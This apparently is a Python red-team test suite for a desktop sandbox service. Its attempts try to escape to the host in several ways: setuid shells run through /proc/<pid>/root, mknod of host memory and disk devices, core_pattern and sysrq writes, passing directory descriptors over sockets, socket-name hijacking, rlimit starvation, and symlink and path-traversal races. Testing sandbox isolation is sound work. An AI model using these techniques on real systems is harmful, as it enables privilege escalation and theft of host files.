"""Of the escalation book: root of a desktop and the user outside, together.

Each function with the mark `@attempt` is one; see `escalation_attempts`.
"""

import os
import resource
import socket
import subprocess
import time
from contextlib import suppress

from escalation_tools import SUID_COPY, Attacker, Farm, attempt, send_descriptor

# Root of a desktop and the user outside, together.


@attempt
def setuid_program_from_inside(attacker: Attacker) -> None:
    """Have root of a desktop make a setuid shell, and run it from outside through the desktop's processes."""
    farm = attacker.farm()
    farm.desktop()
    farm.as_root_inside("sh", "-c", SUID_COPY)
    farm.as_root_inside(
        "setpriv",
        "--reuid",
        str(os.getuid()),
        "--clear-groups",
        "--regid",
        str(os.getgid()),
        "sleep",
        "60",
        detach=True,
    )
    time.sleep(0.3)
    for pid in farm.processes():
        shell = f"/proc/{pid}/root/tmp/rootsh"
        done = (
            subprocess.run(
                [shell, "-p", "-c", f"id -u > {attacker.proof}; id"], capture_output=True, text=True, check=False
            )
            if os.path.exists(shell)
            else None
        )
        print(pid, done)


@attempt
def device_from_inside(attacker: Attacker) -> None:
    """Have root of a desktop make devices of the host's memory and disks, and mount the host's file systems."""
    farm = attacker.farm()
    farm.desktop()
    farm.as_root_inside(
        "sh",
        "-c",
        "mknod /tmp/mem c 1 1; mknod /tmp/disk b 254 0; mknod /tmp/disk2 b 8 0; head -c 1 /tmp/mem; "
        "mount -t proc p /mnt; mount -t cgroup c /mnt",
    )
    farm.as_root_inside(
        "sh",
        "-c",
        f"echo '|{attacker.home}/x' > /proc/sys/kernel/core_pattern; echo x > /proc/sysrq-trigger; cat {attacker.secret}",
    )


def _taker(listen: str, attacker: Attacker) -> str:
    """A program for root of a desktop: it takes a directory of the host over a socket and makes the proof in it."""
    return (
        "import os, socket, subprocess, time\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        f"{listen}\n"
        "s.listen(5)\n"
        "while True:\n"
        "    c, _ = s.accept()\n"
        "    _, fds, _, _ = socket.recv_fds(c, 10, 1)\n"
        "    if fds:\n"
        f"        os.close(os.open({str(attacker.proof)[1:]!r}, os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=fds[0]))\n"
    )


@attempt
def directory_handed_to_root_inside(attacker: Attacker) -> None:
    """Hand a directory of the host to root of a desktop, who has taken the agent's place, over the socket that `dial` gives."""
    farm = attacker.farm()
    farm.desktop()
    take_the_name = (
        "for _ in range(500):\n"
        "    subprocess.run(['pkill', '-KILL', '-f', '[d]art_guest'])\n"
        "    try:\n"
        "        s.bind('\\0dart-guest'); break\n"
        "    except OSError: time.sleep(0.002)"
    )
    farm.as_root_inside("setsid", "python3", "-c", _taker(take_the_name, attacker), detach=True)
    for _ in range(10):
        time.sleep(0.2)
        _, connection = farm.ask("dial", desktop_id="d1", port="control")
        if connection is not None:
            with connection, suppress(OSError):
                send_descriptor(connection, os.open("/", os.O_RDONLY | os.O_DIRECTORY))
                time.sleep(0.1)


def _hand_over_in_the_files(attacker: Attacker, farm: Farm) -> None:
    """Hand a directory to root of the desktop `d1` over a socket in its files, reached through a process of the attacker's uid."""
    program = _taker("s.bind('/tmp/hand'); os.chmod('/tmp/hand', 0o777)", attacker)
    farm.as_root_inside("python3", "-c", program, detach=True)
    ids = f"os.setgroups([]); os.setresgid(*[{os.getgid()}] * 3); os.setresuid(*[{os.getuid()}] * 3)"
    become = f"import os; {ids}; os.execvp('sleep', ['sleep', '60'])"
    farm.as_root_inside("python3", "-c", become, detach=True)
    time.sleep(0.7)
    for pid in farm.processes():
        with suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
            os.chdir(f"/proc/{pid}/root/tmp")
            connection.connect("hand")
            send_descriptor(connection, os.open("/", os.O_RDONLY | os.O_DIRECTORY))
            time.sleep(0.5)
            print("handed over through", pid)
            return


@attempt
def directory_handed_through_a_shared_socket(attacker: Attacker) -> None:
    """Hand a directory of the host to root of a desktop over a socket in the desktop's files, reached through a process of his own uid."""
    farm = attacker.farm()
    farm.desktop()
    _hand_over_in_the_files(attacker, farm)


@attempt
def directory_handed_to_a_restored_copy(attacker: Attacker) -> None:
    """The same with a desktop that CRIU has restored."""
    farm = attacker.farm()
    farm.desktop()
    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
    farm.ask("restore", desktop_id="d1", snapshot_id="s1")
    time.sleep(0.5)
    _hand_over_in_the_files(attacker, farm)


@attempt
def ids_shared_for_a_directory_of_his(attacker: Attacker) -> None:
    """Name images on a file system that cannot translate ids while the helper starts, so that desktops share the host's; then the same."""
    top = attacker.home / "images"
    top.symlink_to("/proc")
    farm = attacker.farm(images=top)
    top.unlink()
    top.symlink_to(attacker.images)
    farm.desktop()
    _hand_over_in_the_files(attacker, farm)


@attempt
def ids_shared_for_want_of_processes(attacker: Attacker) -> None:
    """Start the helper with few processes and little memory, so that its look for ranges of user ids fails; then the same."""
    for limit, value in ((resource.RLIMIT_NPROC, 3), (resource.RLIMIT_NOFILE, 24), (resource.RLIMIT_AS, 1 << 28)):

        def lower(limit: int = limit, value: int = value) -> None:
            resource.setrlimit(limit, (value, value))

        farm = attacker.farm(preexec_fn=lower)
        if farm.reply.get("socket"):
            farm.desktop()
            _hand_over_in_the_files(attacker, farm)


@attempt
def files_left_by_root_inside(attacker: Attacker) -> None:
    """Reach the files of a desktop, with what root inside made there, in the place of the snapshots."""
    store = attacker.home / "store"
    farm = attacker.farm(store=store)
    farm.desktop()
    farm.as_root_inside("sh", "-c", SUID_COPY)
    farm.ask("checkpoint", desktop_id="d1", snapshot_id="s1")
    for top in (store, farm.socket.parent, farm.runtime):
        for folder, _, names in os.walk(top, onerror=print):
            for name in names:
                if name == "rootsh":
                    subprocess.run([f"{folder}/{name}", "-p", "-c", f"id -u > {attacker.proof}"], check=False)
    for entry in store.iterdir():
        for action in (
            os.listdir,
            os.rmdir,
            lambda path: os.chmod(path, 0o777),
            lambda path: os.rename(path, f"{path}.x"),
        ):
            try:
                print(entry, action(entry))
            except OSError as error:
                print(error)


@attempt
def link_from_inside_leads_out(attacker: Attacker) -> None:
    """Leave links to the host's files where root works on a desktop's own: its roots, mounts, and saved files."""
    farm = attacker.farm()
    farm.desktop()
    targets = " ".join(f"/tmp/l{number}" for number in range(3))
    farm.as_root_inside(
        "sh",
        "-c",
        f"for t in {targets}; do ln -s {attacker.victim} $t; done; mv /dev/shm /dev/old; ln -s / /dev/shm; "
        f"rm -rf /etc/resolv.conf; ln -s {attacker.victim} /etc/resolv.conf; ln -sf / /usr/lib/x",
    )
    for number in range(2):
        farm.ask("checkpoint", desktop_id="d1", snapshot_id=f"s{number}")
        farm.ask("restore", desktop_id="d1", snapshot_id=f"s{number}")
    farm.ask("quarantine", snapshot_id="s1")
    farm.ask("delete_snapshot", snapshot_id="s0")
    farm.ask("reap", keep=[])


@attempt
def facts_of_another_desktop_or_the_host(attacker: Attacker) -> None:
    """Ask the verbs that read a desktop's files from outside for the secret, by its path, by links and by `..`."""
    farm = attacker.farm()
    farm.desktop()
    farm.as_root_inside(
        "sh", "-c", f"ln -s {attacker.secret} /home/user/l; ln -s /proc/1/root /home/user/r; ln -s / /home/user/s"
    )
    up = "/.." * 30
    secret = str(attacker.secret)
    paths = [secret, f"/home/user/l{up}{secret}", "/home/user/l", f"/home/user/r{secret}", f"/home/user/s{up}{secret}"]
    paths += [f"{up}{secret}", f"/proc/1/root{secret}", f"/proc/self/root{secret}", "/proc/self/environ", "/dev/mem"]
    for path in paths:
        queries: list[dict[str, object]] = [{"kind": "file", "path": path, "limit_nbytes": 1000}]
        queries.append({"kind": "stat", "path": path, "follow": True})
        farm.ask("evidence", desktop_id="d1", queries=queries)
    tree = {"kind": "tree", "max_entries": 50, "max_depth": 3, "digests": False}
    folder = attacker.secret.parent
    for path in (str(folder), f"/home/user/r{folder}", f"/home/user/s{up}{folder}"):
        farm.ask("evidence", desktop_id="d1", queries=[{**tree, "path": path}])
    swap = "rm -rf /home/user/a; mkdir /home/user/a; rm -rf /home/user/a; ln -s / /home/user/a"
    farm.as_root_inside("sh", "-c", f"while true; do {swap}; done", detach=True)
    file = {"kind": "file", "path": f"/home/user/a{up}{secret}", "limit_nbytes": 1000}
    for _ in range(20):
        farm.ask("evidence", desktop_id="d1", queries=[file])
